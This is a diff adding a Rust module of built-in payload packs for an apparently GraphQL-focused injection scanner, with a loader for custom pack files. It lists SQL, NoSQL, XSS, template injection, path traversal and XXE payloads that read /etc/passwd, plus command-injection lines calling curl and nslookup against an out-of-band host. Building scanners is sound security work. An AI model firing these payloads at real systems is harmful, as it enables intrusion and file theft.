@@ -0,0 +1,243 @@
+use anyhow::{bail, Context, Result};
+use regex::Regex;
+use std::path::Path;
+
+/// Stands for the payload itself in an evidence pattern, e.g. to catch reflection
+const PAYLOAD_PLACEHOLDER: &str = "{payload}";
+
+/// (payload, evidence patterns of its own; empty for the pack's)
+type BuiltinPayloads = &'static [(&'static str, &'static [&'static str])];
+
+/// name, evidence patterns, payloads
+const BUILTIN_PACKS: &[(&str, &[&str], BuiltinPayloads)] = &[
+    (
+        "sqli",
+        &[r"(?i)(sql syntax|sqlstate|syntax error at or near|unterminated quoted string|ORA-\d{5}|sqlite3?\.|SQLITE_ERROR|pg_query|mysql_fetch|unclosed quotation mark|quoted string not properly terminated)"],
+        &[
+            ("'", &[]),
+            ("\"", &[]),
+            ("' OR '1'='1' -- ", &[]),
+            ("\" OR \"1\"=\"1\" -- ", &[]),
+            ("1' AND SLEEP(5) -- ", &[]),
+            ("'; SELECT pg_sleep(5) -- ", &[]),
+            ("1 UNION SELECT NULL -- ", &[]),
+            ("\\", &[]),
+        ],
+    ),
+    (
+        "nosqli",
+        &[r"(?i)(MongoError|MongoServerError|CastError|BSONTypeError|\$where|unknown operator|cannot apply \$)"],
+        &[
+            ("$ne", &[]),
+            ("{\"$ne\": null}", &[]),
+            ("{\"$gt\": \"\"}", &[]),
+            ("'; return true; var x='", &[]),
+            ("this.password.match(/.*/)", &[]),
+        ],
+    ),
+    (
+        "xss",
+        &[r"{payload}"],
+        &[
+            ("<script>gqlmap</script>", &[]),
+            ("\"><img src=x onerror=gqlmap>", &[]),
+            ("javascript:gqlmap//", &[]),
+            ("<svg/onload=gqlmap>", &[]),
+        ],
+    ),
+    (
+        "ssti",
+        &[r"\b49\b"],
+        &[
+            ("{{7*7}}", &[]),
+            ("${7*7}", &[]),
+            ("<%= 7*7 %>", &[]),
+            ("#{7*7}", &[]),
+            ("{{7*'7'}}", &[r"\b(49|7777777)\b"]),
+        ],
+    ),
+    (
+        "traversal",
+        &[r"root:[x*]?:0:0:", r"(?i)\[(boot loader|fonts|extensions)\]", r"(?i)(ENOENT|no such file or directory)"],
+        &[
+            ("../../../../../../etc/passwd", &[]),
+            ("..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", &[]),
+            ("....//....//....//....//etc/passwd", &[]),
+            ("..\\..\\..\\..\\..\\windows\\win.ini", &[]),
+            ("/etc/passwd\u{0}", &[]),
+        ],
+    ),
+    (
+        "xxe",
+        &[r"root:[x*]?:0:0:", r"(?i)(DOCTYPE is disallowed|external entit|SAXParseException|XMLSyntaxError|lxml|libxml)"],
+        &[
+            (
+                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+                &[],
+            ),
+            ("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY % x SYSTEM \"file:///etc/passwd\"> %x;]><a/>", &[]),
+            ("<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></a>", &[]),
+        ],
+    ),
+    (
+        "oob",
+        &[],
+        &[
+            ("http://{oob}/", &[]),
+            ("https://{oob}/", &[]),
+            ("//{oob}/a", &[]),
+            ("{oob}", &[]),
+            ("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"http://{oob}/x\">]><a>&x;</a>", &[]),
+            ("'; EXEC master..xp_dirtree '//{oob}/a' -- ", &[]),
+            ("' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\', '{oob}', '\\\\a')) -- ", &[]),
+            ("$(nslookup {oob})", &[]),
+            ("`nslookup {oob}`", &[]),
+            ("; curl http://{oob}/ ;", &[]),
+        ],
+    ),
+];
+
+/// One value to inject, with what a hit looks like
+#[derive(Debug, Clone)]
+pub struct Payload {
+    pub value: String,
+    /// Pack it came from, e.g. `sqli`
+    pub category: String,
+    /// Patterns that, matched in a response and not in the baseline, mean it worked
+    pub evidence: Vec<Regex>,
+}
+
+impl Payload {
+    /// The first evidence pattern a response text matches, with where it matched
+    pub fn evidence_in(&self, text: &str) -> Option<usize> {
+        self.evidence.iter().find_map(|regex| regex.find(text).map(|m| m.start()))
+    }
+}
+
+/// A named list of payloads
+#[derive(Debug, Clone)]
+pub struct PayloadPack {
+    pub name: String,
+    pub payloads: Vec<Payload>,
+}
+
+impl PayloadPack {
+    /// Names of the built-in packs
+    pub fn builtin_names() -> Vec<&'static str> {
+        BUILTIN_PACKS.iter().map(|(name, _, _)| *name).collect()
+    }
+
+    pub fn builtin(name: &str) -> Option<Self> {
+        let (name, evidence, payloads) = BUILTIN_PACKS.iter().find(|(n, _, _)| *n == name)?;
+        let payloads = payloads
+            .iter()
+            .map(|(value, own)| {
+                let patterns = if own.is_empty() { *evidence } else { *own };
+                Payload {
+                    value: value.to_string(),
+                    category: name.to_string(),
+                    evidence: compile_evidence(patterns.iter().copied(), value).unwrap(),
+                }
+            })
+            .collect();
+        Some(Self {
+            name: name.to_string(),
+            payloads,
+        })
+    }
+
+    /// A pack from a text file named after it: one payload per line, `# evidence: <regex>`
+    /// lines for the pack's evidence, and a tab after a payload for evidence of its own
+    ///
+    /// ```text
+    /// # evidence: (?i)ldap
+    /// *)(uid=*
+    /// admin*)((|userPassword=*)<tab>(?i)invalid filter
+    /// ```
+    pub fn load(path: &Path) -> Result<Self> {
+        let name = path
+            .file_stem()
+            .and_then(|s| s.to_str())
+            .with_context(|| format!("{}: no pack name", path.display()))?
+            .to_string();
+        let content = std::fs::read_to_string(path).with_context(|| format!("Failed to read {}", path.display()))?;
+
+        let mut evidence = Vec::new();
+        let mut lines = Vec::new();
+        for line in content.lines() {
+            if let Some(pattern) = line.strip_prefix("# evidence:") {
+                evidence.push(pattern.trim().to_string());
+            } else if !line.trim().is_empty() && !line.starts_with('#') {
+                lines.push(line);
+            }
+        }
+
+        let mut payloads = Vec::new();
+        for line in lines {
+            let (value, own) = match line.split_once('\t') {
+                Some((value, pattern)) => (value, vec![pattern.trim().to_string()]),
+                None => (line, Vec::new()),
+            };
+            let patterns = if own.is_empty() { &evidence } else { &own };
+            payloads.push(Payload {
+                value: value.to_string(),
+                category: name.clone(),
+                evidence: compile_evidence(patterns.iter().map(String::as_str), value)
+                    .with_context(|| format!("{}: bad evidence pattern", path.display()))?,
+            });
+        }
+
+        Ok(Self { name, payloads })
+    }
+
+    /// Every `.txt` file in `dir` as a pack
+    pub fn load_dir(dir: &Path) -> Result<Vec<Self>> {
+        let mut paths: Vec<_> = std::fs::read_dir(dir)
+            .with_context(|| format!("Failed to read {}", dir.display()))?
+            .filter_map(|entry| entry.ok().map(|e| e.path()))
+            .filter(|path| path.extension().is_some_and(|ext| ext == "txt"))
+            .collect();
+        paths.sort();
+        paths.iter().map(|path| Self::load(path)).collect()
+    }
+}
+
+/// The packs named in `selected` (every built-in one when empty) plus `custom` ones. A
+/// custom pack named like a built-in replaces it.
+pub fn select_packs(selected: &[String], custom: Vec<PayloadPack>) -> Result<Vec<PayloadPack>> {
+    let mut available: Vec<PayloadPack> = PayloadPack::builtin_names()
+        .into_iter()
+        .filter(|name| !custom.iter().any(|c| c.name == *name))
+        .filter_map(PayloadPack::builtin)
+        .collect();
+    let custom_names: Vec<String> = custom.iter().map(|c| c.name.clone()).collect();
+    available.extend(custom);
+
+    if selected.is_empty() {
+        return Ok(available);
+    }
+    for name in selected {
+        if !available.iter().any(|p| &p.name == name) {
+            bail!(
+                "Unknown payload pack '{}' (known: {})",
+                name,
+                PayloadPack::builtin_names()
+                    .into_iter()
+                    .map(String::from)
+                    .chain(custom_names.iter().cloned())
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            );
+        }
+    }
+    Ok(available.into_iter().filter(|p| selected.contains(&p.name)).collect())
+}
+
+fn compile_evidence<'a>(patterns: impl Iterator<Item = &'a str>, payload: &str) -> Result<Vec<Regex>> {
+    patterns
+        .map(|pattern| {
+            let pattern = pattern.replace(PAYLOAD_PLACEHOLDER, &regex::escape(payload));
+            Regex::new(&pattern).map_err(Into::into)
+        })
+        .collect()
+}